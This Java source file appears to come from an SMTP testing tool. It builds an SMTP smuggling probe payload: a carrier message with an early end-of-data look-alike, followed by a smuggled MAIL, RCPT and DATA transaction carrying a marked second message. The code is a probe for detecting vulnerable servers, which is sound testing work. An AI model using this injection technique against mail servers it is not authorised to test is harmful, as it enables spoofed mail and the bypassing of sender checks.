package org.smtpexplorer.probe;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/**
 * The bytes the probe sends after DATA's 354 for one variant, built by a pure function:
 *
 * <pre>
 * From, To, Subject "... carrier", Message-ID, an empty line, a text line WITHOUT a line end
 * the variant's bytes (its own line end before the dot included)
 * MAIL FROM:&lt;from&gt; CRLF  RCPT TO:&lt;to&gt; CRLF  DATA CRLF          (the smuggled transaction)
 * From, To, Subject "... SMUGGLED", Message-ID, an empty line, a text line
 * CRLF . CRLF                                                    (the real end of data)
 * </pre>
 *
 * A server that reads the variant as message text stores one message, the smuggled lines in its body; one that
 * ends the message at the variant stores the carrier, answers the smuggled MAIL, RCPT and DATA, and stores a second
 * message, marked SMUGGLED. Both subjects and Message-IDs hold the run's marker and the variant's id, so either
 * outcome can be found in the recipient's mailbox. Nothing in it starts a line with a dot: no dot-stuffing is
 * needed, or done, anywhere but where the variant puts its dot on purpose.
 */
public final class SmugglingPayload {
    private SmugglingPayload() {
    }

    /** The subject of the smuggled message, which a vulnerable server delivers as a message of its own. */
    public static String smuggledSubject(String marker, SmugglingVariant variant) {
        return "smtpx smuggling probe " + marker + " " + variant.id() + ": SMUGGLED";
    }

    /** The subject of the carrier, the message the look-alike sits in. */
    public static String carrierSubject(String marker, SmugglingVariant variant) {
        return "smtpx smuggling probe " + marker + " " + variant.id() + ": carrier";
    }

    /**
     * The bytes after 354. {@code from} and {@code to} must be plain ASCII addresses without CR, LF or NUL (the
     * session checked them when it sent the real MAIL and RCPT; the probe refuses non-ASCII ones).
     */
    public static byte[] build(SmugglingVariant variant, String marker, String from, String to) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(768);
        ascii(out, "From: <" + from + ">\r\n"
                + "To: <" + to + ">\r\n"
                + "Subject: " + carrierSubject(marker, variant) + "\r\n"
                + "Message-ID: <" + marker + "." + variant.id() + ".carrier@smtpx.invalid>\r\n"
                + "\r\n"
                + "SMTP smuggling probe by smtpx (SMTP Explorer), look-alike " + variant.id() + ". If a second message"
                + " with the subject \"" + smuggledSubject(marker, variant) + "\" arrived, the server ended this one"
                + " at the look-alike, which follows:");
        out.writeBytes(variant.bytes());
        ascii(out, "MAIL FROM:<" + from + ">\r\n"
                + "RCPT TO:<" + to + ">\r\n"
                + "DATA\r\n"
                + "From: <" + from + ">\r\n"
                + "To: <" + to + ">\r\n"
                + "Subject: " + smuggledSubject(marker, variant) + "\r\n"
                + "Message-ID: <" + marker + "." + variant.id() + ".smuggled@smtpx.invalid>\r\n"
                + "\r\n"
                + "smtpx smuggling probe " + marker + " " + variant.id() + ": this message was smuggled.\r\n"
                + ".\r\n");
        return out.toByteArray();
    }

    private static void ascii(ByteArrayOutputStream out, String s) {
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c > 0x7e || (c < 0x20 && c != '\r' && c != '\n')) {
                throw new IllegalArgumentException("the probe sends plain ASCII text only; found U+"
                        + String.format("%04X", (int) c));
            }
        }
        out.writeBytes(s.getBytes(StandardCharsets.US_ASCII));
    }
}
